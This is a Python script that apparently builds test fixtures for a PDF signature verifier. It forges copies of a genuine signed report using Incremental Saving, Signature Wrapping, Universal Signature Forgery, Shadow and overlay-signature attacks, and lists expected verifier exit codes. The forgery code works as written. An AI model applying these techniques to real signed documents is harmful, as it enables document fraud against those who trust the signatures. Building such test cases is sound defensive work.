#!/usr/bin/env python3
"""forge-pdf.py GENUINE.pdf LOOKALIKE-KEY.pem LOOKALIKE-CERT.pem OUTDIR

Makes forged copies of a genuine signed report, one or more per attack class
published by the PDF-insecurity research (https://pdf-insecurity.org):
Incremental Saving (ISA), Signature Wrapping (SWA), Universal Signature
Forgery (USF) and the Shadow attacks (hide, replace, hide-and-replace). Each
keeps the genuine signature's bytes, so a verifier that only checks the CMS
over the /ByteRange would accept it. Writes OUTDIR/manifest.tsv: file name,
attack class, expected status (changed or malformed), expected exit code of
`review verify` (10 or 13). Standard library only, plus the openssl command
to sign with the look-alike certificate.

forge-pdf.py --countersign GENUINE.pdf KEY.pem CERT.pem OUT.pdf [--change-page|--overlay]

Writes OUT.pdf: GENUINE.pdf with a legitimate countersignature, the
incremental update a second signer's PDF tool writes: a new signature field
and widget on the page of the first one (/P), the AcroForm again with its
/Fields extended, that page again with its /Annots extended, and a new
signature dictionary whose /ByteRange covers the whole new file but its
/Contents, a detached CMS made by `openssl cms -sign` with KEY and CERT.
Nothing else changes, so the result must verify. With --change-page the
same revision also replaces page 1's content (a change signing does not
permit: exit 10 however trusted the second signer is). With --overlay the
countersignature is the "sneaky signature": its widget is visible and
page-sized, and its appearance paints the page white (exit 10 too).
"""
import os
import re
import subprocess
import sys
import tempfile


def last_int(data, pattern):
    return int(re.findall(pattern, data)[-1])


class Pdf:
    def __init__(self, data):
        self.data = data
        self.prev = last_int(data, rb"startxref\s+(\d+)")
        self.size = last_int(data, rb"/Size\s+(\d+)")
        self.root = last_int(data, rb"/Root\s+(\d+) 0 R")
        self.info = last_int(data, rb"/Info\s+(\d+) 0 R")
        self.content = int(re.search(rb"/Contents\s+(\d+) 0 R", data).group(1))
        self.pages = int(re.search(rb"/Pages\s+(\d+) 0 R", data).group(1))
        self.acroform = last_int(data, rb"/AcroForm\s+(\d+) 0 R")
        m = re.search(rb"(\d+) 0 obj\s*<<\s*/Type /Font", data)
        self.font = int(m.group(1))
        self.font_at = m.start()

    def update(self, objects, trailer=None, xref=True, entries=None):
        """An incremental update with @objects {num: body bytes}."""
        out = bytearray(self.data)
        offsets = {}
        for num, body in objects.items():
            offsets[num] = len(out)
            out += b"%d 0 obj\n%s\nendobj\n" % (num, body)
        offsets.update(entries or {})
        if not xref:
            return bytes(out)
        at = len(out)
        out += b"xref\n"
        for num in sorted(offsets):
            out += b"%d 1\n%010d 00000 n \n" % (num, offsets[num])
        size = max([self.size] + [n + 1 for n in offsets])
        if trailer is None:
            trailer = b"/Root %d 0 R /Info %d 0 R" % (self.root, self.info)
        out += b"trailer\n<< /Size %d %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
            size, trailer, self.prev, at)
        return bytes(out)


BLANK = b"<< /Length 0 >>\nstream\n\nendstream"


def resign(pdf, data, key, cert):
    """A further revision by the look-alike signer: page 1 blanked, a new
    signature field, the form again, a signature dictionary, signed with
    openssl over the new ranges."""
    p = Pdf(data)
    sig, widget = p.size, p.size + 1
    form = re.findall(rb"%d 0 obj\s*(<<.*?>>)\s*endobj" % p.acroform, data, re.S)[-1]
    fields = re.search(rb"/Fields\s*\[([^\]]*)\]", form).group(1)
    hole = 2 * 8192
    objects = {
        p.content: BLANK,
        widget: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature2) /V %d 0 R "
                b"/Rect [0 0 0 0] /F 132 >>" % sig,
        p.acroform: b"<< /Fields [%s %d 0 R] /SigFlags 3 >>" % (fields.strip(), widget),
        sig: b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached "
             b"/Name (Samir Najm) /M (D:20260101000000+00'00') /ByteRange [0 0 0 0" + b" " * 30
             + b"] /Contents <" + b"0" * hole + b"> >>",
    }
    return fill_signature(bytearray(p.update(objects)), hole, key, cert)


def fill_signature(out, hole, key, cert, md=None):
    """Fills in the last signature dictionary of @out: its /ByteRange (a
    37-character field) around its /Contents placeholder of @hole hex
    digits, reaching the end of the file, then the CMS over those ranges."""
    a = out.rindex(b"/Contents <") + len(b"/Contents ")
    b = a + hole + 2
    ranges = b"0 %d %d %d" % (a, b, len(out) - b)
    br = out.rindex(b"/ByteRange [") + len(b"/ByteRange [")
    out[br:br + 37] = ranges.ljust(37)
    with tempfile.TemporaryDirectory() as tmp:
        content = os.path.join(tmp, "content")
        with open(content, "wb") as f:
            f.write(bytes(out[:a]) + bytes(out[b:]))
        der = subprocess.run(["openssl", "cms", "-sign", "-binary", "-outform", "DER"]
                             + (["-md", md] if md else [])
                             + ["-signer", cert, "-inkey", key, "-in", content, "-nosmimecap"],
                             check=True, capture_output=True).stdout
    hexed = der.hex().encode()
    assert len(hexed) <= hole
    out[a + 1:a + 1 + len(hexed)] = hexed
    return bytes(out)


def object_body(data, num):
    """The last definition of object @num: what is between "obj" and
    "endobj" (the genuine report's own objects are plain dictionaries)."""
    m = list(re.finditer(rb"(?<![0-9])%d 0 obj\s*(.*?)\s*endobj" % num, data, re.S))[-1]
    return m.group(1)


def countersign(data, key, cert, change_page=False, overlay=False):
    """The incremental update a second signer's tool writes to add its
    signature to a signed PDF, and nothing else (unless @change_page).
    With @overlay, the "sneaky signature": the new signature's widget is
    visible, page-sized, and its appearance paints the page white."""
    p = Pdf(data)
    sig, widget, appearance = p.size, p.size + 1, p.size + 2
    form = object_body(data, p.acroform)
    fields = re.search(rb"/Fields\s*\[([^\]]*)\]", form)
    first_widget = int(re.search(rb"(\d+) 0 R", fields.group(1)).group(1))
    page = int(re.search(rb"/P\s+(\d+) 0 R", object_body(data, first_widget)).group(1))
    page_body = object_body(data, page)
    annots = re.search(rb"/Annots\s*\[([^\]]*)\]", page_body)
    assert annots is not None, "the signed page has its /Annots written in it"
    hole = 2 * 8192
    objects = {
        page: page_body[:annots.end(1)].rstrip() + b" %d 0 R " % widget
              + page_body[annots.end(1):],
        widget: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature2) /V %d 0 R "
                b"/P %d 0 R /Rect [0 0 0 0] /F 132 >>" % (sig, page),
        p.acroform: form[:fields.end(1)].rstrip() + b" %d 0 R " % widget + form[fields.end(1):],
        sig: b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached "
             b"/Name (Layla Haddad) /Reason (Countersigned) /M (D:20260102000000+00'00') "
             b"/ByteRange [0 0 0 0" + b" " * 30 + b"] /Contents <" + b"0" * hole + b"> >>",
    }
    if change_page:
        objects[p.content] = BLANK
    if overlay:
        white = b"1 g 0 0 2000 2000 re f"
        objects[widget] = (b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature2) "
                           b"/V %d 0 R /P %d 0 R /Rect [0 0 2000 2000] /F 4 "
                           b"/AP << /N %d 0 R >> >>" % (sig, page, appearance))
        objects[appearance] = (b"<< /Type /XObject /Subtype /Form /BBox [0 0 2000 2000] "
                               b"/Length %d >>\nstream\n%s\nendstream" % (len(white), white))
    trailer = b"/Root %d 0 R /Info %d 0 R" % (p.root, p.info)
    ids = re.findall(rb"/ID\s*(\[[^\]]*\])", data)
    if ids:
        trailer += b" /ID " + ids[-1]
    return fill_signature(bytearray(p.update(objects, trailer=trailer)), hole, key, cert,
                          md="sha256")


def main():
    if sys.argv[1] == "--countersign":
        genuine, key, cert, out = sys.argv[2:6]
        assert sys.argv[6:] in ([], ["--change-page"], ["--overlay"]), "unknown argument"
        with open(out, "wb") as f:
            f.write(countersign(open(genuine, "rb").read(), key, cert,
                                change_page=sys.argv[6:] == ["--change-page"],
                                overlay=sys.argv[6:] == ["--overlay"]))
        return
    genuine, key, cert, outdir = sys.argv[1:5]
    data = open(genuine, "rb").read()
    p = Pdf(data)
    os.makedirs(outdir, exist_ok=True)
    forged = []

    def write(name, cls, status, content):
        with open(os.path.join(outdir, name), "wb") as f:
            f.write(content)
        forged.append((name, cls, status, 10 if status == "changed" else 13))

    # --- Incremental Saving ---------------------------------------------
    write("isa-blank-page.pdf", "ISA", "changed", p.update({p.content: BLANK}))
    write("isa-no-xref.pdf", "ISA", "changed",
          p.update({p.size: b"<< /Type /Annot /Subtype /FreeText /Rect [0 0 600 800] "
                            b"/Contents (FORGED) >>"}, xref=False))
    write("isa-resigned.pdf", "ISA", "changed", resign(p, data, key, cert))

    # --- Signature Wrapping: the ranges re-pointed so that the gap after
    # the /Contents also hides injected objects ---------------------------
    a = last_int(data, rb"/ByteRange\s*\[\s*0\s+(\d+)")
    b = data.index(b">", a) + 1
    inject = b"\n%d 0 obj\n%s\nendobj\n" % (p.content, BLANK)
    wrapped = bytearray(data[:b] + inject + data[b:])
    br = wrapped.rindex(b"/ByteRange [") + len(b"/ByteRange [")
    width = wrapped.index(b"]", br) - br
    c = len(data) - b
    wrapped[br:br + width] = (b"0 %d %d %d" % (a, b + len(inject), c)).ljust(width)
    sx = wrapped.rindex(b"startxref\n") + len(b"startxref\n")
    end = wrapped.index(b"\n", sx)
    wrapped[sx:end] = b"%d" % (int(wrapped[sx:end]) + len(inject))
    write("swa-wrapped.pdf", "SWA", "malformed", bytes(wrapped))

    # --- Universal Signature Forgery: the values a verifier needs missing
    # or empty, written over the genuine ones ------------------------------
    def usf(name, old_re, new):
        m = list(re.finditer(old_re, data, re.S))[-1]
        text = new.ljust(m.end() - m.start())
        write(name, "USF", "malformed", data[:m.start()] + text + data[m.end():])

    usf("usf-no-contents.pdf", rb"/Contents\s*<[0-9a-fA-F]*>", b"")
    usf("usf-no-byterange.pdf", rb"/ByteRange\s*\[[^\]]*\]", b"")
    usf("usf-byterange-zero.pdf", rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange [0 0 0 0]")
    usf("usf-byterange-null.pdf", rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange null")
    usf("usf-contents-00.pdf", rb"/Contents\s*<[0-9a-fA-F]*>", b"/Contents <00>")

    # --- Shadow attacks ----------------------------------------------------
    # Hide: an update of nothing but a cross-reference section, pointing
    # page 1's content at other bytes already in the signed file.
    write("shadow-hide.pdf", "Shadow hide", "changed",
          p.update({}, entries={p.content: p.font_at}))
    # Replace: a font redefined after signing.
    write("shadow-replace-font.pdf", "Shadow replace", "changed",
          p.update({p.font: b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>"}))
    # Hide-and-replace: the trailer's /Root points at another catalogue.
    write("shadow-hide-replace.pdf", "Shadow hide-and-replace", "changed",
          p.update({p.size: b"<< /Type /Catalog /Pages %d 0 R >>" % p.pages},
                   trailer=b"/Root %d 0 R /Info %d 0 R" % (p.size, p.info)))
    write("shadow-hide-replace-form.pdf", "Shadow hide-and-replace", "changed",
          p.update({p.size: b"<< /Type /Catalog /Pages %d 0 R /AcroForm %d 0 R >>"
                            % (p.pages, p.acroform)},
                   trailer=b"/Root %d 0 R /Info %d 0 R" % (p.size, p.info)))
    # The document information changed after signing.
    write("info-changed.pdf", "ISA (document information)", "changed",
          p.update({p.size: b"<< /Title (Forged) /Producer (someone else) >>"},
                   trailer=b"/Root %d 0 R /Info %d 0 R" % (p.root, p.size)))
    write("info-redefined.pdf", "Shadow replace (document information)", "changed",
          p.update({p.info: b"<< /Title (Forged) /Producer (someone else) >>"}))

    with open(os.path.join(outdir, "manifest.tsv"), "w") as f:
        f.write("file\tclass\texpected\texit\n")
        for row in forged:
            f.write("%s\t%s\t%s\t%d\n" % row)
    print("%d forged files in %s" % (len(forged), outdir))


if __name__ == "__main__":
    main()
